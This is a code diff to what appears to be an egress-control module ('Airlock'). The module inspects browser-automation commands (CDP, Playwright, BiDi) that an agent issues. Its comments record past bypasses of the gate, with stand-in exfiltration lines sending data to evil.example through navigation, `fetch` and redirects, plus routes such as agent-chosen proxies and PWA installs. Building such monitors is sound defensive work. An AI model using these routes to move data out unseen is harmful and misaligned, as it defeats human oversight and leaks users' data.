@@ -44,6 +44,7 @@ import { attributeUrls, codeReading, functionRead, type CodeReading, codeUrls, c
 import { consoleRead, mysqlCommandLine, otherConsoleLine } from './console-lines.ts';
 import { unreadSqlEffect } from './adapters/sql-clickhouse.ts';
 import { reachesOutside, sqlPrefixState } from './adapters/sql.ts';
+import { lookupTable } from '../lib/records.ts';
 
 /** A statement the tunnel carries, as the body its HTTP twin would send. */
 export interface CarriedStatement {
@@ -877,7 +878,7 @@ function mcpMessage(msg: Record<string, unknown>, data: Buffer): TunnelRead {
  * the eighteenth): over an approved WebSocket they were relayed undecided, and the remote browser
  * went to `https://evil.example/?d=<data>` from outside Airlock.
  */
-const cdpLoads: Record<string, string> = {
+const cdpLoads: Readonly<Record<string, string>> = lookupTable({
   'Page.navigate': 'url', 'Target.createTarget': 'url', 'Network.loadNetworkResource': 'url', 'Fetch.continueRequest': 'url', 'DOM.setAttributeValue': 'value',
   'DOM.setAttributesAsText': 'text',
   // Twentieth pass: a browser context whose traffic goes through a proxy of the agent's choosing
@@ -890,7 +891,7 @@ const cdpLoads: Record<string, string> = {
   // A web app installed from a URL, or opened at one (twenty-fourth pass: the browser fetched
   // `PWA.install`'s `installUrlOrBundleUrl` of another site undecided).
   'PWA.install': 'installUrlOrBundleUrl', 'PWA.launch': 'url',
-};
+});
 
 const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;
 
@@ -900,7 +901,7 @@ const cdpMethod = /^[A-Z][A-Za-z]*\.[a-z][A-Za-z]*$/;
  * pass: `Runtime.evaluate` of `fetch('https://evil.example/?d=…')` was relayed undecided).
  * `callFunctionOn`'s `arguments` count: Puppeteer passes `page.evaluate`'s values there.
  */
-const cdpCode: Record<string, readonly string[]> = {
+const cdpCode: Readonly<Record<string, readonly string[]>> = lookupTable({
   'Runtime.evaluate': ['expression'], 'Runtime.callFunctionOn': ['functionDeclaration', 'arguments'], 'Runtime.compileScript': ['expression'],
   'Page.addScriptToEvaluateOnNewDocument': ['source'], 'Page.addScriptToEvaluateOnLoad': ['scriptSource'], 'Debugger.evaluateOnCallFrame': ['expression'],
   'Debugger.setScriptSource': ['scriptSource'], 'DOM.setNodeValue': ['value'], 'CSS.setStyleSheetText': ['text'], 'CSS.setStyleTexts': ['edits'], 'CSS.addRule': ['ruleText'],
@@ -911,15 +912,15 @@ const cdpCode: Record<string, readonly string[]> = {
   'Page.reload': ['scriptToEvaluateOnLoad'], 'Debugger.setBreakpointByUrl': ['condition'], 'Debugger.setBreakpoint': ['condition'],
   'Debugger.setBreakpointOnFunctionCall': ['condition'], 'Debugger.setVariableValue': ['newValue'], 'Debugger.setReturnValue': ['newValue'],
   'CSS.setEffectivePropertyValueForNode': ['value'],
-};
+});
 /**
  * Answers and requests a command makes up for the browser, in base64 (an intercepted request
  * answered with a page, or with `302 Location: https://evil.example/?d=…`, which the browser then
  * follows; a request sent again as raw bytes): read as code is, for the URLs they name.
  */
-const cdpEncoded: Record<string, readonly string[]> = {
+const cdpEncoded: Readonly<Record<string, readonly string[]>> = lookupTable({
   'Fetch.fulfillRequest': ['body', 'binaryResponseHeaders'], 'Fetch.continueResponse': ['binaryResponseHeaders'], 'Network.continueInterceptedRequest': ['rawResponse'],
-};
+});
 /**
  * State a command stores for a site, sent to it with the browser's next request there (a cookie)
  * or read there by its pages (web storage): the site it names is judged as a load, as if the
@@ -931,7 +932,7 @@ const cookieSites = (cookies: unknown): string[] => (Array.isArray(cookies) ? co
   const { url, domain } = (c && typeof c === 'object' ? c : {}) as { url?: unknown; domain?: unknown };
   return [...(typeof url === 'string' ? [url] : []), ...(typeof domain === 'string' ? [`https://${domain.replace(/^\./, '')}/`] : [])];
 });
-const cdpStateFor: Record<string, (params: Record<string, unknown>) => string[]> = {
+const cdpStateFor: Readonly<Record<string, (params: Record<string, unknown>) => string[]>> = lookupTable({
   'Network.setCookie': (p) => cookieSites(p),
   'Network.setCookies': (p) => cookieSites(p.cookies),
   'Storage.setCookies': (p) => cookieSites(p.cookies),
@@ -957,7 +958,7 @@ const cdpStateFor: Record<string, (params: Record<string, unknown>) => string[]>
     const { securityOrigin, storageKey } = (p.storageId && typeof p.storageId === 'object' ? p.storageId : {}) as { securityOrigin?: unknown; storageKey?: unknown };
     return [securityOrigin, storageKey].filter((o): o is string => typeof o === 'string');
   },
-};
+});
 /**
  * Values the agent has the browser send with every request, or with a request it paused, to hosts
  * no rule decides: the third-party images, scripts and beacons of an allowed page, or the paused
@@ -976,10 +977,10 @@ const languageRange = String.raw`(?:[a-z]{2,3}(?:-[A-Za-z]{4})?(?:-(?:[A-Z]{2}|\
 const languageTag = String.raw`${languageRange}(?:;\s*q=[01](?:\.\d{1,3})?)?`;
 const languageList = new RegExp(`^${languageTag}(?:\\s*,\\s*${languageTag}){0,7}$`);
 const localeTag = new RegExp(`^${languageRange}$`);
-const everydayHeaders: Record<string, RegExp> = {
+const everydayHeaders: Readonly<Record<string, RegExp>> = lookupTable({
   'accept-language': languageList, dnt: /^[01]$/, 'sec-gpc': /^1$/, 'upgrade-insecure-requests': /^1$/,
   'cache-control': /^(?:no-cache|no-store|max-age=0)$/, pragma: /^no-cache$/, 'save-data': /^on$/,
-};
+});
 /** Phone and tablet models a user agent or client hint names (Playwright's devices). */
 const deviceModel = String.raw`(?:K|Pixel \d{1,2}[a-z]?(?: Pro)?(?: XL)?(?: \(5G\))?|Nexus \d{1,2}[A-Z]?|SM-[A-Z]\d{3}[A-Z]?|Moto G \(\d\))`;
 const uaPlatform = String.raw`(?:Windows NT 10\.0; Win64; x64|Macintosh; Intel Mac OS X 1[0-5][_.]\d{1,2}(?:[_.]\d{1,2})?|X11; (?:Ubuntu; )?Linux x86_64|X11; CrOS x86_64 \d{1,5}\.\d{1,3}\.\d{1,3}|Linux; Android \d{1,2}(?:\.\d){0,2}; ${deviceModel}(?: Build/[A-Z0-9]{5,8}(?:\.\d{3}){0,2})?|iPhone; CPU iPhone OS \d{1,2}_\d(?:_\d)? like Mac OS X|iPad; CPU OS \d{1,2}_\d(?:_\d)? like Mac OS X)`;
@@ -1086,15 +1087,15 @@ export function browserWideValues(method: string, p: Record<string, unknown>): s
  * server goes to, and those carrying code or made-up answers, read as CDP's are. (`setContent` is
  * markup; proxies, base URLs, cookies, launch arguments and `fetch` are read in `cdpLoadsOf`.)
  */
-const playwrightLoads: Record<string, readonly string[]> = {
+const playwrightLoads: Readonly<Record<string, readonly string[]>> = lookupTable({
   goto: ['url'], redirectNavigationRequest: ['url'], continue: ['url'], fallback: ['url'], addScriptTag: ['url'], addStyleTag: ['url'], connectOverCDP: ['endpointURL'],
   waitForNavigation: [], newPage: [],
-};
-const playwrightCode: Record<string, readonly string[]> = {
+});
+const playwrightCode: Readonly<Record<string, readonly string[]>> = lookupTable({
   evaluateExpression: ['expression', 'arg'], evaluateExpressionHandle: ['expression', 'arg'], addInitScript: ['source'], addScriptTag: ['content'], addStyleTag: ['content'],
   waitForFunction: ['expression', 'arg'], evalOnSelector: ['expression', 'arg'], evalOnSelectorAll: ['expression', 'arg'],
   continue: ['headers'], fallback: ['headers'], fulfill: ['headers', 'body'], exposeBinding: [], dispatchEvent: ['eventInit'],
-};
+});
 /**
  * A Playwright `fetch`'s URL with its query parameters added as the server adds them
  * (`encodedParams` after the query, else each `params` pair appended): the URL judged is the one
@@ -1114,12 +1115,12 @@ function withParams(url: string, encoded: unknown, params: unknown): string {
 /** A WebDriver BiDi command: `module.command`, both in lower camel case. */
 const bidiMethod = /^(?:browsingContext|script|network|storage|browser|session|emulation|input|webExtension|log|permissions)\.[a-z][A-Za-z]*$/;
 /** BiDi commands carrying code, headers or values given to code, by their parameters. */
-const bidiCode: Record<string, readonly string[]> = {
+const bidiCode: Readonly<Record<string, readonly string[]>> = lookupTable({
   'script.evaluate': ['expression'], 'script.callFunction': ['functionDeclaration', 'arguments', 'this'], 'script.addPreloadScript': ['functionDeclaration', 'arguments'],
   'network.continueRequest': ['headers', 'cookies'], 'network.continueResponse': ['headers', 'cookies'], 'network.provideResponse': ['headers', 'cookies'],
-};
+});
 /** Commands that give the browser markup to parse, by the parameter that holds it. */
-const cdpMarkup: Record<string, string> = { 'DOM.setOuterHTML': 'outerHTML', 'Page.setDocumentContent': 'html' };
+const cdpMarkup: Readonly<Record<string, string>> = lookupTable({ 'DOM.setOuterHTML': 'outerHTML', 'Page.setDocumentContent': 'html' });
 /**
  * XML namespace names code passes to `createElementNS` (Playwright's injected script names SVG's):
  * identifiers, never loaded.
@@ -1132,12 +1133,12 @@ export const MAX_CDP_LOADS = 16;
  * Commands that give the browser a style sheet, and where its text is (a style edit's `text`): read
  * as a style sheet, CSS escapes undone, for URLs it loads and URLs relative to the page.
  */
-const cdpStyles: Record<string, (p: Record<string, unknown>) => unknown[]> = {
+const cdpStyles: Readonly<Record<string, (p: Record<string, unknown>) => unknown[]>> = lookupTable({
   'CSS.setStyleSheetText': (p) => [p.text], 'CSS.addRule': (p) => [p.ruleText], 'CSS.setEffectivePropertyValueForNode': (p) => [p.value],
   'CSS.setStyleTexts': (p) => (Array.isArray(p.edits) ? p.edits.slice(0, 1000).map((e) => (e as { text?: unknown } | null)?.text) : []),
   // A text node may be a `<style>` element's.
   'DOM.setNodeValue': (p) => [p.value],
-};
+});
 
 /**
  * The URLs a CDP message has the browser load, each decided as its GET, or why it cannot be read:
